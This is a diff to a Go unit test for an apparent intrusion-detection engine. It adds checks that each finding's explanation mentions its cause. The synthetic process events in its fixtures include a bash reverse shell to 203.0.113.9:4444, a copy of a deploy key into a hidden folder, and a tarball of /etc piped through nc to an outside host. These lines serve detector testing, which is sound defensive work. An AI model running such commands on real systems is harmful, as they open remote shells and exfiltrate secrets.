@@ -17,6 +17,7 @@ func TestPerMatchMeaning(t *testing.T) {
 		attack   []string // techniques the finding must carry
 		noAttack []string // techniques it must not carry
 		noTitle  string   // its title must not contain this
+		why      string   // its Why must contain this, when set
 		stage    Stage    // its stage, when set
 	}
 	cases := []struct {
@@ -44,7 +45,7 @@ func TestPerMatchMeaning(t *testing.T) {
 			s.exec(300, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
 			s.exec(301, 300, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/CRON", "-f")
 			return e.Observe(s.exec(302, 301, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"), s.tree)
-		}, check{rule: "web-server-reverse-shell", noTitle: "Web Server"}},
+		}, check{rule: "web-server-reverse-shell", noTitle: "Web Server", why: "cron"}},
 		{"rm -rf of the chain's own files", func(s *synth, e *Engine) []*Finding {
 			// a tool dropped in a folder of its own, and a web shell
 			s.exec(201, 200, 33, "www-data", "/var/www/html/uploads", "/usr/bin/dash", "sh", "-c", "mkdir .t; cp /var/www/html/backup/deploy_key .t/k")
@@ -60,7 +61,7 @@ func TestPerMatchMeaning(t *testing.T) {
 			s.exec(201, 200, 33, "www-data", "/tmp", "/usr/bin/dash", "sh", "-c", "tar czf - /etc | nc 203.0.113.9 443")
 			s.exec(202, 201, 33, "www-data", "/tmp", "/usr/bin/nc.traditional", "nc", "203.0.113.9", "443")
 			return e.Observe(s.connect(202, 201, 33, "/usr/bin/nc.traditional", "203.0.113.9", 443), s.tree)
-		}, check{rule: "web-reverse-shell-connect", attack: []string{"T1048"}, noTitle: "Reverse Shell", stage: StageExfiltrationImpact}},
+		}, check{rule: "web-reverse-shell-connect", attack: []string{"T1048"}, noTitle: "Reverse Shell", stage: StageExfiltrationImpact, why: "data goes out"}},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
@@ -87,6 +88,9 @@ func TestPerMatchMeaning(t *testing.T) {
 			}
 			if tc.want.noTitle != "" && strings.Contains(f.Title, tc.want.noTitle) {
 				t.Errorf("title %q says %q", f.Title, tc.want.noTitle)
+			}
+			if !strings.Contains(f.Why, tc.want.why) {
+				t.Errorf("why %q, want it to say %q", f.Why, tc.want.why)
 			}
 			if tc.want.stage != 0 && f.Stage != tc.want.stage {
 				t.Errorf("stage %v, want %v", f.Stage, tc.want.stage)
